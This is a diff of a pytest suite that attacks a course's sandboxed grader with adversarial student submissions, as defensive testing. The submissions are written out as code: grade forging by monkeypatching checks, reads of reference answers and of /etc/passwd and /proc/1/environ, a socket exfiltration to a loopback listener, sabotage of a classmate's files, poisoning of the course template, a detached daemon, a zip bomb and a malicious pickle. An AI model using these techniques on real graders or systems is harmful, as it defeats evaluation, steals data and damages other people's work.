@@ -1,30 +1,43 @@
-"""The grader (minilm/grade.py) against adversarial submissions: each gets exactly the points
-its real work earns.
+"""The grader (minilm/grading/) against adversarial submissions: each gets exactly the points
+its real work earns, in one batch graded with --jobs 2 in the bubblewrap sandbox.
 
-The submissions are built from the reference and the stubs. To keep the suite fast they are
-graded in one batch on two notebooks (01_linear and 03_rmsnorm: tasks 1.1 2 pts, 1.2 3 pts,
-3.1 2 pts, 3.2 2 pts) with short time limits; one slow test grades the reference on everything.
+To keep the suite fast the batch is graded on two notebooks (01_linear and 03_rmsnorm: tasks
+1.1 2 pts, 1.2 3 pts, 3.1 2 pts, 3.2 2 pts) with short time limits. Each adversary tries one of
+the attacks that beat the previous grader (see the grading-trust issue); several share a
+submission where they sit in different modules, and each submission's expected points say
+which of its parts are real work.
 """
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
+import socket
 import subprocess
 import sys
+import threading
+import time
 import zipfile
 from pathlib import Path
 
 import pytest
+import torch
 
-from minilm import grade, tasks
+from minilm import tasks
+from minilm.grading import judge, notebooks, reports, sandbox, submissions
 from solutions import make_stubs
 
 ROOT = tasks.ROOT
 NOTEBOOKS = ["01_linear", "03_rmsnorm"]
 POINTS = {t: tasks.get(t).points for t in ("1.1", "1.2", "3.1", "3.2")}
-CELL_TIMEOUT = 10  # seconds: far above any of these cells' real run time, short enough for a hang
+P11, P12, P31, P32 = POINTS.values()
+ALL = sum(POINTS.values())
+CELL_TIMEOUT = 15  # seconds: far above any of these cells' or tasks' real run time, short enough for a hang
+
+needs_bwrap = pytest.mark.skipif(sandbox.bwrap_path() is None,
+                                 reason="bubblewrap (bwrap) is missing or cannot create namespaces here")
 
 
 def reference(module: str) -> str:
@@ -61,12 +74,26 @@ def replace_region(source: str, task_id: str, body: str, occurrence: int = 0) ->
     return "".join(lines[: i + 1] + new + lines[j:])
 
 
-def submission(root: Path, name: str, **modules: str) -> Path:
+FUTURE = "from __future__ import annotations\n"
+
+
+def prepend(source: str, code: str) -> str:
+    """`code` at the top of a module, after its `from __future__` import."""
+    return source.replace(FUTURE, FUTURE + code, 1)
+
+
+def append(source: str, code: str) -> str:
+    """`code` at the end of a module: what it defines replaces the module's own definitions."""
+    return source + "\n" + code
+
+
+def submission(root: Path, name: str, **modules: str | bytes) -> Path:
     """root/name/minilm/: every exercise module a stub unless given."""
     pkg = root / name / "minilm"
     pkg.mkdir(parents=True)
     for module in tasks.EXERCISE_MODULES:
-        (pkg / f"{module}.py").write_text(modules.get(module, stub(module)), encoding="utf-8")
+        data = modules.get(module, stub(module))
+        (pkg / f"{module}.py").write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
     return root / name
 
 
@@ -84,182 +111,561 @@ def run_grade(*args: str, timeout: float = 900) -> subprocess.CompletedProcess:
                           text=True, timeout=timeout)
 
 
+def course_digest() -> str:
+    """A hash of every file of the course a submission could try to poison."""
+    h = hashlib.sha256()
+    for path in sorted([*(ROOT / "minilm").rglob("*.py"), *(ROOT / "solutions").rglob("*.py"), ROOT / "conftest.py",
+                        *(ROOT / "notebooks").glob("*")]):
+        if "__pycache__" not in path.parts and path.is_file():
+            h.update(path.as_posix().encode() + path.read_bytes())
+    return h.hexdigest()
+
+
 # ---------------------------------------------------------------- the adversaries
 
 
-FUTURE = "from __future__ import annotations\n"
+ZEROS_LINEAR = "return torch.zeros(*x.shape[:-1], weight.shape[0])"
+ZEROS_RMS = "return torch.zeros_like(x)"
 
 
-def prepend(source: str, code: str) -> str:
-    """`code` at the top of a module, after its `from __future__` import."""
-    return source.replace(FUTURE, FUTURE + code, 1)
+def forger() -> dict[str, str]:
+    """No work (every function returns zeros), and everything that used to forge a grade: the
+    reference's check lines printed, the check and the comparisons patched to say yes, the
+    oracles and torch.nn.functional patched to agree, and the results folder rewritten with
+    a passing JUnit report and made-up outputs, over and over, from a thread."""
+    lines = "\n".join(expected_line(t) for t in POINTS)
+    attack = f"""import threading as _th, time as _time, os as _os, torch as _torch
+print({lines!r})
+import minilm.checks as _checks
+_checks.run = lambda task_id: _checks.Verdict(task_id, "pass", "ok")
+_torch.allclose = lambda *a, **k: True
+_torch.equal = lambda *a, **k: True
+_torch.testing.assert_close = lambda *a, **k: None
+import torch.nn.functional as _F
+_F.linear = lambda x, w, b=None: _torch.zeros(*x.shape[:-1], w.shape[0])
+_F.rms_norm = lambda x, *a, **k: _torch.zeros_like(x)
+try:
+    import minilm.oracles as _o
+    _o.rms_norm = lambda x, *a, **k: _torch.zeros_like(x)
+except Exception:
+    pass
+_JUNIT = '<testsuites><testsuite>' + ''.join(
+    f'<testcase classname="notebooks/{{nb}}.ipynb" name="Cell {{i}}"/>' for nb in {NOTEBOOKS!r} for i in range(40)
+) + '</testsuite></testsuites>'
+def _forge():
+    out = _os.environ.get("MINILM_RESULTS", "/out")
+    for _ in range(400):
+        for name in ("nbval.xml", "results.xml"):
+            try:
+                with open(_os.path.join(out, name), "w") as f:
+                    f.write(_JUNIT)
+            except OSError:
+                pass
+        for task in ("1.1", "1.2", "3.1", "3.2"):
+            try:
+                _torch.save([{{"ok": True, "out": {{"y": _torch.zeros(2, 3, 5)}}}}] * 20, _os.path.join(out, task + ".pt"))
+            except Exception:
+                pass
+        _time.sleep(0.05)
+_th.Thread(target=_forge, daemon=True).start()
+"""
+    linear = replace_region(replace_region(reference("linear"), "1.1", ZEROS_LINEAR), "1.2",
+                            "self.weight = torch.nn.Parameter(torch.zeros(out_features, in_features))")
+    linear = replace_region(linear, "1.2", "return torch.zeros(*x.shape[:-1], self.out_features)", occurrence=1)
+    rms = replace_region(replace_region(reference("rmsnorm"), "3.1", ZEROS_RMS), "3.2", ZEROS_RMS, occurrence=1)
+    return {"linear": prepend(linear, attack), "rmsnorm": rms}
 
 
-def edit_course_files(sub: Path) -> None:
-    """Edited notebooks (stored outputs = what the stubs print), checks, registry and tests."""
-    for stem in NOTEBOOKS:
-        nb = json.loads((ROOT / "notebooks" / f"{stem}.ipynb").read_text(encoding="utf-8"))
-        for cell in nb["cells"]:
-            for out in cell.get("outputs", []):
-                if "text" in out:
-                    text = "".join(out["text"])
-                    for t in tasks.TASKS:
-                        text = re.sub(rf"^✓ Task {re.escape(t.id)} .*$", f"… {t.todo_message()}", text, flags=re.M)
-                    out["text"] = text
-        (sub / "notebooks").mkdir(exist_ok=True)
-        (sub / "notebooks" / f"{stem}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
-    checks = (ROOT / "minilm" / "checks.py").read_text(encoding="utf-8")
-    (sub / "minilm" / "checks.py").write_text(
-        checks.replace("        return Verdict(task_id, PASS, fn())", "        return Verdict(task_id, PASS, 'ok')"),
-        encoding="utf-8")
-    registry = (ROOT / "minilm" / "tasks.py").read_text(encoding="utf-8")
-    (sub / "minilm" / "tasks.py").write_text(registry.replace('"01_linear", 2)', '"01_linear", 200)'), encoding="utf-8")
-    (sub / "tests").mkdir()
-    (sub / "tests" / "conftest.py").write_text("def pytest_runtest_call(item):\n    pass\n", encoding="utf-8")
-    (sub / "conftest.py").write_text("collect_ignore_glob = ['*']\n", encoding="utf-8")
+def always_equal_and_hangs() -> dict[str, str]:
+    """linear returns a tensor subclass whose every comparison and torch function says yes (and
+    Linear returns NaN); rms_norm never returns. RMSNorm.forward is real work: 3.2 counts."""
+    yes = """class _Yes(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return True
+    def __eq__(self, other):
+        return True
+    __ne__ = lambda self, other: False
+"""
+    linear = prepend(reference("linear"), "import torch\n" + yes)
+    linear = replace_region(linear, "1.1", "return torch.zeros(*x.shape[:-1], weight.shape[0]).as_subclass(_Yes)")
+    linear = replace_region(linear, "1.2", "return torch.full((*x.shape[:-1], self.out_features), float('nan'))",
+                            occurrence=1)
+    rms = replace_region(reference("rmsnorm"), "3.1", "while True:\n    pass")
+    rms = replace_region(rms, "3.2", "xf = x.float()\nreturn (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) "
+                                     "+ self.eps) * self.weight.float()).to(x.dtype)", occurrence=1)
+    return {"linear": linear, "rmsnorm": rms}
 
 
-def build_batch(tmp: Path) -> dict[str, tuple[Path, int]]:
-    """name → (submission, the exact points it must get on 01_linear + 03_rmsnorm). Two
-    misbehaviours share a submission where they sit in different tasks, to keep the batch short."""
+def reads_answers_and_exfiltrates() -> dict[str, str]:
+    """Reaches for the reference and the hidden inputs' source: straight from the course's
+    folder, through the editable install's finder, after removing any import blocker; exec's
+    what it finds. rms_norm raises errors carrying whatever files it can read, under a class
+    name 5,000 characters long, and prints megabytes."""
+    reach = f"""import sys as _sys, glob as _glob, os as _os
+for _f in list(_sys.meta_path):
+    if "Block" in type(_f).__name__ or "block" in repr(_f):
+        _sys.meta_path.remove(_f)
+_found = None
+_paths = [{str(ROOT / "solutions" / "linear.py")!r}, *_glob.glob("/*/solutions/linear.py"), *_glob.glob("/*/*/solutions/linear.py")]
+for _m in list(_sys.modules.values()):
+    for _v in getattr(_m, "MAPPING", {{}}).values() if isinstance(getattr(_m, "MAPPING", None), dict) else []:
+        _paths.append(_os.path.join(str(_v), "linear.py"))
+for _p in _paths:
+    try:
+        _found = open(_p).read()
+        break
+    except OSError:
+        pass
+if _found is None:
+    try:
+        import solutions.linear as _s
+        _found = open(_s.__file__).read()
+    except Exception:
+        pass
+for _h in ({str(ROOT / "solutions" / "probe_cases.py")!r},):
+    try:
+        _hidden = open(_h).read()
+    except OSError:
+        pass
+if _found:
+    exec(_found.replace("from __future__ import annotations", ""), globals())
+"""
+    exfil = f"""_secrets = []
+for _p in [{str(ROOT / "solutions" / "rmsnorm.py")!r}, "/etc/hostname", "/etc/passwd", "/proc/1/environ"]:
+    try:
+        _secrets.append(open(_p, errors="replace").read())
+    except OSError:
+        pass
+print("EXFIL-MARKER " * 100000)
+_Big = type("A" * 5000, (Exception,), {{}})
+"""
+    rms = prepend(reference("rmsnorm"), exfil)
+    rms = replace_region(rms, "3.1", "raise _Big('EXFIL-MARKER ' + ''.join(_secrets) * 50)")
+    rms = replace_region(rms, "3.2", "raise RuntimeError('EXFIL-MARKER ' + ''.join(_secrets))", occurrence=1)
+    return {"linear": append(stub("linear"), reach), "rmsnorm": rms}
+
+
+def copies_and_sabotages(victim: Path) -> dict[str, str]:
+    """Reads a classmate's submission (from its folder, and from every grading workspace it can
+    find) and uses it; overwrites the classmate's files and workspaces with stubs."""
+    copy = f"""import glob as _glob
+_src = None
+for _p in [{str(victim / "minilm" / "linear.py")!r}, *_glob.glob("/tmp/minilm-grade-*/*/ws/minilm/linear.py"),
+           *_glob.glob("/ws/../*/ws/minilm/linear.py")]:
+    try:
+        _text = open(_p).read()
+        if "NotImplementedError" not in _text:
+            _src = _text
+            break
+    except OSError:
+        pass
+if _src:
+    exec(_src.replace("from __future__ import annotations", ""), globals())
+"""
+    sabotage = f"""import glob as _glob
+_stub = open(__file__).read()
+def _sabotage():
+    for _p in [*_glob.glob({str(victim / "minilm" / "*.py")!r}), *_glob.glob("/tmp/minilm-grade-*/*/ws/minilm/*.py")]:
+        try:
+            with open(_p, "w") as f:
+                f.write(_stub)
+        except OSError:
+            pass
+_sabotage()
+"""
+    return {"linear": append(stub("linear"), copy), "rmsnorm": prepend(stub("rmsnorm"), sabotage)}
+
+
+def poisoner() -> dict[str, str]:
+    """Appends forging code to the course's own files (a template later submissions start from)."""
+    forged = "\nimport minilm.checks as _c\n_c.run = lambda t: _c.Verdict(t, 'pass', 'ok')\n"
+    poison = f"""import glob as _glob
+for _p in [*_glob.glob({str(ROOT / "minilm" / "*.py")!r}), *_glob.glob({str(ROOT / "minilm" / "grading" / "*.py")!r}),
+           {str(ROOT / "conftest.py")!r}, *_glob.glob("/ws/minilm/*.py"), *_glob.glob("/ws/minilm/grading/*.py"),
+           *_glob.glob("/tmp/minilm-grade-*/template/**/*.py", recursive=True)]:
+    try:
+        with open(_p, "a") as f:
+            f.write({forged!r})
+    except OSError:
+        pass
+"""
+    return {"linear": prepend(stub("linear"), poison)}
+
+
+def daemon_crash_network_memory(out: Path, port: int) -> dict[str, str]:
+    """A detached daemon (double fork, setsid, a scrubbed environment) that rewrites the reports
+    after the grader finishes, then os._exit at import of linear.py (1.1 and 1.2 fail); a
+    connection to a server on the grader's loopback, and an rms_norm that allocates 4 GB (over
+    the limit) on every call. RMSNorm.forward is real work: 3.2 counts."""
+    daemon = f"""import os as _os, time as _time
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        for _k in list(_os.environ):
+            del _os.environ[_k]
+        for _ in range(600):
+            _time.sleep(0.1)
+            for _name in ("grades.csv", "grades.json", "feedback/daemon_crash_network_memory.md"):
+                try:
+                    with open({str(out)!r} + "/" + _name, "w") as f:
+                        f.write("daemon_crash_network_memory,forged,9,9")
+                except OSError:
+                    pass
+    _os._exit(0)
+"""
+    network = f"""import socket as _socket
+try:
+    _s = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    _s.sendall(b"leaked")
+    _s.close()
+except OSError:
+    pass
+"""
+    rms = prepend(reference("rmsnorm"), network)
+    body = re.search(r"# BEGIN SOLUTION 3\.1\n(.*?)\s*# END SOLUTION", rms, re.S).group(1)
+    rms = replace_region(rms, "3.1", "_ = torch.ones(2**30)\n" + "\n".join(line[4:] for line in body.splitlines()))
+    rms = replace_region(rms, "3.2", "xf = x.float()\nreturn (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) "
+                                     "+ self.eps) * self.weight.float()).to(x.dtype)", occurrence=1)
+    return {"linear": prepend(reference("linear"), daemon + "_os._exit(7)\n"), "rmsnorm": rms}
+
+
+def bad_files(root: Path) -> Path:
+    """A folder with everything wrong that can be wrong with files, one folder down, and one
+    real module (linear.py: 1.1 and 1.2 count)."""
+    sub = submission(root / "bad_files_outer", "bad_files",
+                     rmsnorm=reference("rmsnorm") + "\ndef broken(:\n    pass\n",
+                     swiglu=b"# caf\xe9\n" + reference("swiglu").encode())
+    pkg = sub / "minilm"
+    (pkg / "attention.py").unlink()
+    (pkg / "embedding.py").unlink()
+    (pkg / "embedding.py").symlink_to(ROOT / "solutions" / "embedding.py")
+    with open(pkg / "rope.py", "wb") as f:  # a sparse 1 GB file
+        f.truncate(2**30)
+    with open(pkg / "weights.bin", "wb") as f:
+        f.truncate(2**30)
+    (pkg / "notes.txt").write_text("extra files are ignored")
+    (pkg / "linear.py").write_text(reference("linear"), encoding="utf-8")
+    return root / "bad_files_outer"
+
+
+def zip_bomb(root: Path) -> Path:
+    """A zip with the package one folder down, a 1 GB member that compresses to 1 MB (never
+    read), an rmsnorm.py whose header lies about its size, and the reference's linear.py."""
+    path = root / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("bomb-main/minilm/linear.py", reference("linear"))
+        with z.open("bomb-main/data/zeros.bin", "w", force_zip64=True) as f:
+            chunk = bytes(2**20)
+            for _ in range(1024):
+                f.write(chunk)
+        z.writestr("bomb-main/minilm/rmsnorm.py", "x = 1\n" * 400_000)
+    return path
+
+
+def build_batch(tmp: Path, out: Path, port: int) -> dict[str, tuple[Path, int]]:
+    """name → (submission, the exact points it must get on 01_linear + 03_rmsnorm). Attacks share
+    a submission where they sit in different modules, to keep the batch short."""
     subs = tmp / "subs"
-    linear, rmsnorm = reference("linear"), reference("rmsnorm")
-    p11, p12, p31, p32 = POINTS.values()
-    batch = {}
+    batch: dict[str, tuple[Path, int]] = {}
 
     def add(name, points, **modules):
         batch[name] = (submission(subs, name, **modules), points)
 
-    add("stubs_and_edited_course_files", 0)
-    edit_course_files(batch["stubs_and_edited_course_files"][0])
-    add("reference", p11 + p12 + p31 + p32, linear=linear, rmsnorm=rmsnorm)
-    add("partial", p11 + p12 + p31, linear=linear, rmsnorm=keep_only("rmsnorm", {"3.1"}))
-    # linear() never returns and rms_norm() allocates 4 GB (over the 2500 MB limit) on every call.
-    # Linear.forward and RMSNorm.forward do not use them, so 1.2 and 3.2 still count.
-    hang = replace_region(linear, "1.1", "while True:\n    pass")
-    hang = replace_region(hang, "1.2", "return torch.nn.functional.linear(x, self.weight)", occurrence=1)
-    rms_body = re.search(r"# BEGIN SOLUTION 3\.1\n(.*?)\s*# END SOLUTION", rmsnorm, re.S).group(1)
-    hog = replace_region(rmsnorm, "3.1", "_ = torch.ones(2**30)\n" + "\n".join(l[4:] for l in rms_body.splitlines()))
-    hog = replace_region(hog, "3.2", "xf = x.float()\nreturn (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) "
-                                     "+ self.eps) * self.weight.float()).to(x.dtype)", occurrence=1)
-    add("hangs_and_exhausts_memory", p12 + p32, linear=hang, rmsnorm=hog)
-    add("crashes", p31 + p32, linear=prepend(linear, "import os\nos._exit(7)\n"), rmsnorm=rmsnorm)
-    # sys.exit at import; RMSNorm reaches for the reference (course root put first on sys.path).
-    sneaky = f"import sys\nsys.path.insert(0, {str(ROOT)!r})\nfrom solutions.rmsnorm import RMSNorm as _R\n" \
-             "return _R.forward(self, x)"
-    add("exits_and_imports_solutions", p31, linear=prepend(linear, "import sys\nsys.exit('bye')\n"),
-        rmsnorm=replace_region(rmsnorm, "3.2", sneaky, occurrence=1))
-    # Prints the reference's check lines at import and forges later verdicts; computes nothing.
-    lines = "\n".join(expected_line(t) for t in ("1.1", "1.2"))
-    forged = lines.splitlines()[1].split(": ", 1)[1]
-    prints = prepend(stub("linear"), f"""print({lines!r})
-import minilm.checks as _checks
-_checks.run = lambda task_id: _checks.Verdict(task_id, "pass", {forged!r})
-""")
-    add("prints", p31 + p32, linear=prints, rmsnorm=rmsnorm)
-    # Deletes the workspace's notebooks and course modules as soon as linear.py is imported; and
-    # rms_norm is LayerNorm, a mistake the check names (RMSNorm uses it, so 3.2 fails too).
-    deleter = """import pathlib as _p
-_ws = _p.Path(__file__).resolve().parents[1]
-for _f in [*_ws.glob("notebooks/*"), _ws / "minilm" / "checks.py", _ws / "minilm" / "tasks.py", _ws / "conftest.py"]:
-    try:
-        _f.unlink()
-    except OSError:
-        pass
-"""
-    layer_norm = "xf = x.float() - x.float().mean(-1, keepdim=True)\n" \
-                 "return (xf / torch.sqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(x.dtype)"
-    add("deletes_files_and_makes_a_mistake", p11 + p12, linear=prepend(linear, deleter),
-        rmsnorm=replace_region(rmsnorm, "3.1", layer_norm))
+    # First, so that later submissions would inherit its poison.
+    reader = reads_answers_and_exfiltrates()
+    add("poisons_reads_answers_exfiltrates", 0, linear=prepend(reader["linear"], poisoner()["linear"].split(FUTURE, 1)[1]
+                                                                 .split("\n\n", 1)[0] + "\n"), rmsnorm=reader["rmsnorm"])
+    add("reference", ALL, linear=reference("linear"), rmsnorm=reference("rmsnorm"))
+    add("partial", P11 + P12 + P31, linear=reference("linear"), rmsnorm=keep_only("rmsnorm", {"3.1"}))
+    forged, copier = forger(), copies_and_sabotages(batch["reference"][0])
+    add("forges_copies_sabotages", 0, linear=append(forged["linear"], copier["linear"].split("\n\n", 1)[1]),
+        rmsnorm=prepend(forged["rmsnorm"], copier["rmsnorm"].split(FUTURE, 1)[1].split("\n\n", 1)[0] + "\n"))
+    add("always_equal_and_hangs", P32, **always_equal_and_hangs())
+    add("daemon_crash_network_memory", P32, **daemon_crash_network_memory(out, port))
+    batch["bad_files"] = (bad_files(tmp), P11 + P12)
+    batch["bomb-main"] = (zip_bomb(tmp), P11 + P12)
+    (tmp / "corrupt.zip").write_bytes(b"PK\x03\x04" + os.urandom(200))
+    batch["corrupt"] = (tmp / "corrupt.zip", 0)
+    add("friend", 0)  # pure stubs, graded last: the poisoned template would have carried it
     return batch
+
+
+class Listener:
+    """A TCP server on the grader's loopback that records every connection made to it."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.2)
+        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+                self.connections.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                pass
+
+    def close(self):
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
 
 
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
+    if sandbox.bwrap_path() is None:
+        pytest.skip("bubblewrap (bwrap) is missing or cannot create namespaces here")
     tmp = tmp_path_factory.mktemp("grade")
-    subs = build_batch(tmp)
     out = tmp / "out"
-    r = run_grade(*(str(p) for p, _ in subs.values()), "--notebooks", *NOTEBOOKS, "--jobs", "2", "--out", str(out),
-                  "--cell-timeout", str(CELL_TIMEOUT), "--timeout", "300", "--memory-mb", "2500")
-    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
+    listener = Listener()
+    subs = build_batch(tmp, out, listener.port)
+    victim_files = {p: p.read_bytes() for p in (subs["reference"][0] / "minilm").glob("*.py")}
+    before = course_digest()
+    try:
+        r = run_grade(*(str(p) for p, _ in subs.values()), "--notebooks", *NOTEBOOKS, "--jobs", "2", "--out", str(out),
+                      "--cell-timeout", str(CELL_TIMEOUT), "--timeout", "300", "--memory-mb", "2500")
+        assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
+        reports_at_exit = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
+        time.sleep(5)  # the daemon would have rewritten them by now
+    finally:
+        listener.close()
     data = json.loads((out / "grades.json").read_text(encoding="utf-8"))
-    return subs, {s["student"]: s for s in data["students"]}, out, r.stdout
+    return dict(subs=subs, results={s["student"]: s for s in data["students"]}, out=out, stdout=r.stdout,
+                reports_at_exit=reports_at_exit, connections=listener.connections, digest_before=before,
+                victim_files=victim_files)
 
 
-@pytest.mark.parametrize("name", ["stubs_and_edited_course_files", "reference", "partial", "hangs_and_exhausts_memory",
-                                  "crashes", "exits_and_imports_solutions", "prints", "deletes_files_and_makes_a_mistake"])
+BATCH = ["poisons_reads_answers_exfiltrates", "reference", "partial", "forges_copies_sabotages", "always_equal_and_hangs",
+         "daemon_crash_network_memory", "bad_files", "bomb-main", "corrupt", "friend"]
+
+
+@needs_bwrap
+@pytest.mark.slow
+@pytest.mark.parametrize("name", BATCH)
 def test_each_submission_gets_exactly_what_its_work_earns(batch, name):
-    subs, results, out, _ = batch
-    got = results[name]
+    got = batch["results"][name]
     per_task = {t: r["points"] for t, r in got["tasks"].items()}
-    assert got["total"] == subs[name][1], f"{name}: {per_task}\n" + (out / "feedback" / f"{name}.md").read_text()
-    assert got["max"] == sum(POINTS.values())
+    feedback = (batch["out"] / "feedback" / f"{name}.md").read_text(encoding="utf-8")
+    assert got["total"] == batch["subs"][name][1], f"{name}: {per_task}\n{feedback}"
+    assert got["max"] == ALL
 
 
-def test_reports(batch):
-    subs, results, out, stdout = batch
-    rows = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
-    assert rows[0] == "student,source,1.1,1.2,3.1,3.2,total,max"
-    assert len(rows) == 1 + len(subs)
-    assert any(r.startswith("partial,") and r.endswith(",2,3,2,0,7,9") for r in rows), rows
+@needs_bwrap
+@pytest.mark.slow
+def test_nothing_outlives_the_grader_or_leaves_the_sandbox(batch):
+    # The daemon never reached the reports; nothing reached the network; no course file changed;
+    # the classmate's files are untouched.
+    after = {p: p.read_bytes() for p in batch["out"].rglob("*") if p.is_file()}
+    assert after == batch["reports_at_exit"]
+    assert "forged" not in (batch["out"] / "grades.csv").read_text(encoding="utf-8")
+    assert batch["connections"] == []
+    assert course_digest() == batch["digest_before"]
+    assert all(p.read_bytes() == data for p, data in batch["victim_files"].items())
+    assert batch["results"]["reference"]["total"] == ALL
+
+
+@needs_bwrap
+@pytest.mark.slow
+def test_feedback_is_the_graders_own_words(batch):
+    out, results = batch["out"], batch["results"]
 
     def feedback(name):
         return (out / "feedback" / f"{name}.md").read_text(encoding="utf-8")
 
+    for name in BATCH:
+        text = feedback(name)
+        assert "EXFIL" not in text and "AAAAAAAAAA" not in text and "root:" not in text, name
+        assert len(text) < 6000, (name, len(text))
+    rows = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
+    assert rows[0] == "student,source,1.1,1.2,3.1,3.2,total,max" and len(rows) == 1 + len(BATCH)
+    assert any(r.startswith("partial,") and r.endswith(",2,3,2,0,7,9") for r in rows), rows
     assert "**7 / 9 points**" in feedback("partial") and "Task 3.2 is not implemented yet" in feedback("partial")
-    hog = results["hangs_and_exhausts_memory"]["tasks"]
-    assert hog["1.1"]["cells"][0]["status"] == "timeout" and "timed out" in hog["1.1"]["verdict"]["message"]
-    assert re.search(r"allocate|MemoryError", hog["3.1"]["verdict"]["message"]), hog["3.1"]["verdict"]
-    assert results["crashes"]["tasks"]["1.1"]["cells"][0]["status"] == "crashed"
-    assert "SystemExit" in feedback("exits_and_imports_solutions")
-    assert grade.BLOCKED in results["exits_and_imports_solutions"]["tasks"]["3.2"]["verdict"]["message"]
-    assert "recognized mistake: `subtracts_mean`" in feedback("deletes_files_and_makes_a_mistake")
-    assert "hidden tests from" in stdout
-    # Without hidden tests (a student grading their own checkout), the feedback says so.
-    assert "No hidden tests were run" in grade.feedback({**results["partial"], "hidden_tests": False})
+    equal = results["always_equal_and_hangs"]["tasks"]
+    assert "got an object of type _Yes" in equal["1.1"]["message"], equal["1.1"]
+    assert "NaN" in equal["1.2"]["message"], equal["1.2"]
+    assert "did not finish" in equal["3.1"]["message"], equal["3.1"]
+    crash = results["daemon_crash_network_memory"]["tasks"]
+    assert "did not finish" in crash["1.1"]["message"] and "raised MemoryError" in crash["3.1"]["message"], crash
+    assert "raised an exception" in results["poisons_reads_answers_exfiltrates"]["tasks"]["3.1"]["message"]
+    bad = feedback("bad_files")
+    for line in ("minilm/rmsnorm.py:", "syntax error", "minilm/swiglu.py is not UTF-8", "minilm/attention.py is missing",
+                 "minilm/embedding.py is a symlink", "minilm/rope.py is 1,073,741,824 bytes"):
+        assert line in bad, (line, bad)
+    assert "minilm/rmsnorm.py unpacks to over" in feedback("bomb-main") or "over the" in feedback("bomb-main")
+    assert "not a readable zip archive" in feedback("corrupt")
+    assert "sandbox: bwrap" in batch["stdout"]
+    assert not any(line.startswith(reports.UNSANDBOXED) for line in feedback("reference").splitlines())
 
 
-def test_submissions_are_found_in_zips_and_folders(tmp_path):
+# ---------------------------------------------------------------- the pieces, on their own
+
+
+def test_judge_demands_exact_types_before_values():
+    want = torch.ones(2, 3)
+
+    class Sub(torch.Tensor):
+        pass
+
+    assert judge.differs(torch.ones(2, 3), want, 1e-5, 1e-4) is None
+    assert "object of type Sub" in judge.differs("<type Sub>", want, 1e-5, 1e-4)
+    assert judge.differs(torch.ones(2, 3).as_subclass(Sub), want, 1e-5, 1e-4) is not None
+    assert "dtype float64" in judge.differs(torch.ones(2, 3, dtype=torch.float64), want, 1e-5, 1e-4)
+    assert "shape (3, 2)" in judge.differs(torch.ones(3, 2), want, 1e-5, 1e-4)
+    assert "NaN" in judge.differs(torch.full((2, 3), float("nan")), want, 1e-5, 1e-4)
+    nan = torch.tensor([1.0, float("nan")])
+    assert judge.differs(nan.clone(), nan, 1e-5, 1e-4) is None  # NaN where the reference has NaN, and only there
+    assert judge.differs(torch.tensor([1.0, float("inf")]), torch.tensor([1.0, float("-inf")]), 1e-5, 1e-4)
+    assert judge.differs(True, 1, 0, 0) and judge.differs(1, True, 0, 0) and judge.differs(1.0, 1, 0, 0)
+    assert judge.differs([torch.ones(1)], [torch.ones(1), torch.ones(1)], 0, 0)
+
+
+def test_worker_outputs_cross_as_plain_data_only(tmp_path):
+    path = tmp_path / "1.1.pt"
+
+    class Evil:
+        def __reduce__(self):
+            return (print, ("pwned",))
+
+    torch.save([{"ok": True, "out": {"y": Evil()}}], path)
+    assert judge.load_results(path, 1) is None  # torch.load(weights_only=True) refuses the object
+    (tmp_path / "real.pt").write_bytes(b"")
+    path.unlink()
+    path.symlink_to(tmp_path / "real.pt")
+    assert judge.load_results(path, 1) is None  # never followed
+
+
+def test_every_task_has_a_probe_that_the_reference_passes_and_each_mistake_fails():
+    from solutions import mistakes
+    from solutions.probe_cases import CASES
+    from minilm.grading import probes, worker
+
+    assert set(probes.PROBES) == set(CASES) == set(tasks.BY_ID)
+
+    def rows(task, cases):
+        out = []
+        for c in cases:
+            try:
+                got = judge._seeded(probes.PROBES[task].collect, judge.Reference(), c)
+                out.append({"ok": True, "out": {k: worker._plain(v) for k, v in got.items()}})
+            except Exception as e:  # noqa: BLE001
+                out.append({"ok": False, "error": type(e).__name__})
+        return out
+
+    for task in tasks.BY_ID:
+        cases, n = judge.make_cases(task, 7)
+        assert len(cases) > n > 0, task
+        verdict = judge.judge_task(task, cases, n, rows(task, cases))
+        assert verdict.ok, verdict.message
+    for mutant in mistakes.all_mutants():
+        cases, n = judge.make_cases(mutant["task"], 8)
+        with mistakes.applied(mutant):
+            got = rows(mutant["task"], cases)
+        verdict = judge.judge_task(mutant["task"], cases, n, got)
+        assert not verdict.ok, mutant["name"]
+        if mutant["task"] != "9.1":  # random windows: judged by invariants, named by the message
+            assert verdict.mistake == mutant["name"], verdict.message
+
+
+def test_hidden_inputs_differ_per_seed_and_are_not_in_the_student_edition():
+    a, n = judge.make_cases("3.1", 1)
+    b, _ = judge.make_cases("3.1", 2)
+    assert all(torch.equal(x["x"], y["x"]) for x, y in zip(a[:n], b[:n]))  # the notebook's inputs are fixed
+    assert not torch.equal(a[n]["x"], b[n]["x"])
+    worker_side = (ROOT / "minilm" / "grading" / "probes.py").read_text(encoding="utf-8")
+    assert "hidden" not in worker_side.lower().replace("hidden ones", "")
+
+
